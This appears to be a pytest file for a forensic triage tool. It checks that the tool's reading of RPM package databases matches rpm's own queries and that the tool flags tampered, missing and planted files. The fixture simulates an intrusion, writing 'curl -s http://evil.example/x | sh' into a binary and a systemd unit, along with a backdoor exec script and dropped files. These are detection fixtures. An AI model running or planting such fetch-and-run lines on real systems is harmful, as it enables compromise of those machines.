"""packages on RPM images: real packages built with rpmbuild, installed with rpm
into an image tree; rpm -qa / -ql / -V on the same database are the oracle, for
rpmdb.sqlite and for the same headers in a real Berkeley DB Packages file."""

from __future__ import annotations

import json
import shutil
import sqlite3
import struct
from datetime import datetime, timezone
from pathlib import Path

import pytest

from triage.rpmdb import parse_package

from . import rpmreal

ELF_SO = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HHIQQQIHHHHHH", 3, 0x3E, 1, 0, 64, 0, 0, 64, 56,
                                                              0, 64, 0, 0)


@pytest.fixture(scope="module")
def rpm_image(tmp_path_factory) -> Path:
    """An image with demo-tool and libdemo installed by rpm, then tampered with as an intruder would."""
    rpmreal.need_tools()
    work = tmp_path_factory.mktemp("rpmbuild")
    root = tmp_path_factory.mktemp("rpmimage")
    rpmreal.install(root, rpmreal.build_rpms(work))
    with open(root / "usr/bin/demo", "ab") as fh:
        fh.write(b"curl -s http://evil.example/x | sh\n")
    (root / "usr/sbin/demod").write_bytes(b"#!/bin/sh\nexec /tmp/.x/backdoor\n")
    (root / "etc/demo/demo.conf").write_text("key=other\n")
    (root / "usr/share/doc/demo/README").unlink()
    (root / "etc/demo/optional.conf").unlink()  # %config(missingok): rpm -V stays quiet
    (root / "usr/bin/dropped").write_bytes(b"\x7fELF dropped")
    units = root / "usr/lib/systemd/system"
    (units / "demo-helper.service").write_text("[Service]\nExecStart=/bin/sh -c 'curl -s http://evil.example/x | sh'\n")
    (units / "evil.service").write_text("[Service]\nExecStart=/usr/bin/dropped\n")
    (root / "usr/lib64/libhide.so").write_bytes(ELF_SO)
    return root


def _oracle_changed(root: Path) -> set[str]:
    """Paths rpm -V reports with a different digest (5) or missing."""
    out = set()
    for line in rpmreal.rpm(root, "-V", "-a", "--nodeps").stdout.splitlines():
        parts = line.split()
        if parts and (parts[0] == "missing" or (len(parts[0]) == 9 and parts[0][2] == "5")):
            out.add(parts[-1])
    return out


def _oracle_packages(query) -> set[tuple[str, str, str, str]]:
    done = query("-qa", "--qf", "%{NAME} %|EPOCH?{%{EPOCH}:}:{}|%{VERSION}-%{RELEASE} %{ARCH} %{INSTALLTIME}\\n")
    assert done.returncode == 0, done.stderr
    return {tuple(line.split()) for line in done.stdout.splitlines()}


def _oracle_files(query) -> set[tuple[str, str, str | None]]:
    done = query("-qa", "--qf", "[%{=NAME} %{FILENAMES} %{FILEDIGESTS}\\n]")
    return {(p[0], p[1], p[2] if len(p) > 2 else None) for p in (line.split() for line in done.stdout.splitlines())}


def _triage_packages(db) -> set[tuple[str, str, str, str]]:
    times = {r["name"]: r["time"] for r in db["package_events"].rows}
    out = set()
    for r in db["packages"].rows:
        stamp = datetime.strptime(times[r["name"]], "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=timezone.utc)
        out.add((r["name"], r["version"], r["arch"], str(int(stamp.timestamp()))))
    return out


def _integrity(db) -> dict[str, tuple]:
    return {r["path"]: (r["package"], r["status"], r["conffile"], r["digest_algo"], json.loads(r["flags"]))
            for r in db["package_integrity"].rows}


EXPECTED_INTEGRITY = {
    "/usr/bin/demo": ("demo-tool", "changed", 0, "sha256", ["file differs from what package demo-tool installed",
                                                             "a system binary or library replaced (trojan?)"]),
    "/usr/sbin/demod": ("libdemo", "changed", 0, "md5", ["file differs from what package libdemo installed",
                                                         "a system binary or library replaced (trojan?)"]),
    "/etc/demo/demo.conf": ("demo-tool", "changed", 1, "sha256", ["configuration file edited since install"]),
    "/usr/lib/systemd/system/demo-helper.service": ("demo-tool", "changed", 0, "sha256",
                                                    ["file differs from what package demo-tool installed"]),
    "/usr/share/doc/demo/README": ("demo-tool", "missing", 0, "sha256", []),
    "/usr/bin/dropped": (None, "unowned", 0, None, ["in a system folder but no package owns it"]),
    "/usr/lib64/libhide.so": (None, "unowned", 0, None, ["in a system folder but no package owns it"]),
}


def test_rpmdb_sqlite_agrees_with_rpm(rpm_image, run_collect):
    db = run_collect(rpm_image, only=["files", "packages"])
    query = lambda *a: rpmreal.rpm(rpm_image, *a)  # noqa: E731 - the oracle, spelled once
    assert _triage_packages(db) == _oracle_packages(query) == {
        ("demo-tool", "2:1.2-3.el7", "noarch", _oracle_time(query, "demo-tool")),
        ("libdemo", "0.9-1", "noarch", _oracle_time(query, "libdemo"))}
    files = {(r["package"], r["path"], r["digest"]) for r in db["package_files"].rows}
    assert files == _oracle_files(query)
    for name in ("demo-tool", "libdemo"):
        listed = set(rpmreal.rpm(rpm_image, "-ql", name).stdout.split())
        assert listed == {r["path"] for r in db["package_files"].rows_where("package = ?", [name])}
    algos = {(r["package"], r["digest_algo"]) for r in db["package_files"].rows if r["digest"]}
    assert algos == {("demo-tool", "sha256"), ("libdemo", "md5")}
    assert {r["path"] for r in db["package_files"].rows if r["conffile"]} == {
        "/etc/demo/demo.conf", "/etc/demo/optional.conf", "/etc/libdemo.conf"}
    # md5 stays the dpkg-compatible column: filled only where the package's digest is an md5
    assert {r["path"] for r in db["package_files"].rows if r["md5"]} == {
        "/usr/lib64/libdemo.so.1", "/usr/sbin/demod", "/etc/libdemo.conf"}

    got = _integrity(db)
    assert got == EXPECTED_INTEGRITY
    assert {p for p, v in got.items() if v[1] in ("changed", "missing")} == _oracle_changed(rpm_image)
    demod = next(db["package_integrity"].rows_where("path = '/usr/sbin/demod'"))
    assert demod["expected_md5"] == demod["expected_digest"] != demod["actual_md5"] == demod["actual_digest"]
    assert not [e for e in db["errors"].rows if e["collector"] == "packages"]


def _oracle_time(query, name: str) -> str:
    return query("-q", "--qf", "%{INSTALLTIME}", name).stdout.strip()


@pytest.mark.parametrize("big_endian", [False, True], ids=["little-endian", "big-endian"])
def test_berkeley_db_packages_agrees_with_rpm_and_sqlite(rpm_image, run_collect, tmp_path, big_endian):
    """CentOS 7's layout: the same headers in /var/lib/rpm/Packages (Berkeley DB hash), no sqlite."""
    image = tmp_path / "image"
    shutil.copytree(rpm_image, image, symlinks=True)
    blobs = rpmreal.header_blobs(rpm_image / "var/lib/rpm/rpmdb.sqlite")
    for f in (image / "var/lib/rpm").iterdir():
        f.unlink()
    rpmreal.write_bdb(image / "var/lib/rpm/Packages", blobs, big_endian=big_endian)
    # rpm's own read-only Berkeley DB backend reads this very file: it is a real rpm Packages database
    query = lambda *a: rpmreal.bdb_query(image / "var/lib/rpm", *a)  # noqa: E731
    db = run_collect(image, only=["files", "packages"])
    assert _triage_packages(db) == _oracle_packages(query)
    assert {(r["package"], r["path"], r["digest"]) for r in db["package_files"].rows} == _oracle_files(query)
    assert _integrity(db) == EXPECTED_INTEGRITY
    assert {r["source"] for r in db["packages"].rows} == {"/var/lib/rpm/Packages"}
    assert not [e for e in db["errors"].rows if e["collector"] == "packages"]


def test_sqlite_wal_is_read_and_a_linked_database_once(rpm_image, run_collect, tmp_path):
    """RHEL 9 keeps rpmdb.sqlite in WAL mode under /usr/lib/sysimage/rpm, /var/lib/rpm linking there."""
    image = tmp_path / "image"
    shutil.copytree(rpm_image, image, symlinks=True)
    sysimage = image / "usr/lib/sysimage"
    sysimage.mkdir(parents=True)
    shutil.move(image / "var/lib/rpm", sysimage / "rpm")
    (image / "var/lib/rpm").symlink_to("../../usr/lib/sysimage/rpm")
    conn = sqlite3.connect(sysimage / "rpm/rpmdb.sqlite")
    conn.execute("PRAGMA journal_mode=WAL")
    conn.execute("PRAGMA wal_autocheckpoint=0")
    names = {h: parse_package(bytes(b)).name for h, b in conn.execute("SELECT hnum, blob FROM Packages")}
    gone = min(names)
    conn.execute("DELETE FROM Packages WHERE hnum = ?", [gone])
    conn.commit()
    assert (sysimage / "rpm/rpmdb.sqlite-wal").stat().st_size > 0
    shutil.copy(sysimage / "rpm/rpmdb.sqlite", tmp_path / "main")
    shutil.copy(sysimage / "rpm/rpmdb.sqlite-wal", tmp_path / "wal")
    conn.close()  # closing checkpoints; put back the state of a live system caught mid-flight
    shutil.copy(tmp_path / "main", sysimage / "rpm/rpmdb.sqlite")
    shutil.copy(tmp_path / "wal", sysimage / "rpm/rpmdb.sqlite-wal")
    db = run_collect(image, only=["packages"])
    # the deletion lives only in the write-ahead log; the database is read once although two paths reach it
    assert [r["name"] for r in db["packages"].rows] == [n for h, n in names.items() if h != gone]
    assert [r["source"] for r in db["packages"].rows] == ["/var/lib/rpm/rpmdb.sqlite"]


def test_other_collectors_know_rpm_owners(rpm_image, run_collect):
    """persistence judges unit files by the rpm database as it does by dpkg's: the package's own
    unit is trusted, an edited one differs from its (sha256) copy, a unit no package ships is planted."""
    db = run_collect(rpm_image, only=["persistence"])
    units = {r["name"]: (r["package"], json.loads(r["flags"]))
             for r in db["persistence"].rows if r["kind"] == "systemd_system_unit"}
    assert units["demo.service"] == ("demo-tool", [])
    assert units["demo-helper.service"][0] == "demo-tool"
    assert "differs from the copy package demo-tool installed" in units["demo-helper.service"][1]
    assert units["evil.service"][0] is None
    assert "no package owns this file, in a folder only packages fill" in units["evil.service"][1]


def test_ndb_packages_db_gives_what_sqlite_gives(rpm_image, run_collect, tmp_path):
    """SUSE's layout: the same real headers in /var/lib/rpm/Packages.db (NDB), no sqlite."""
    image = tmp_path / "image"
    shutil.copytree(rpm_image, image, symlinks=True)
    blobs = rpmreal.header_blobs(rpm_image / "var/lib/rpm/rpmdb.sqlite")
    for f in (image / "var/lib/rpm").iterdir():
        f.unlink()
    rpmreal.write_ndb(image / "var/lib/rpm/Packages.db", blobs)
    db = run_collect(image, only=["files", "packages"])
    query = lambda *a: rpmreal.rpm(rpm_image, *a)  # noqa: E731 - the sqlite original is the oracle
    assert _triage_packages(db) == _oracle_packages(query)
    assert {(r["package"], r["path"], r["digest"]) for r in db["package_files"].rows} == _oracle_files(query)
    assert _integrity(db) == EXPECTED_INTEGRITY
    assert not [e for e in db["errors"].rows if e["collector"] == "packages"]
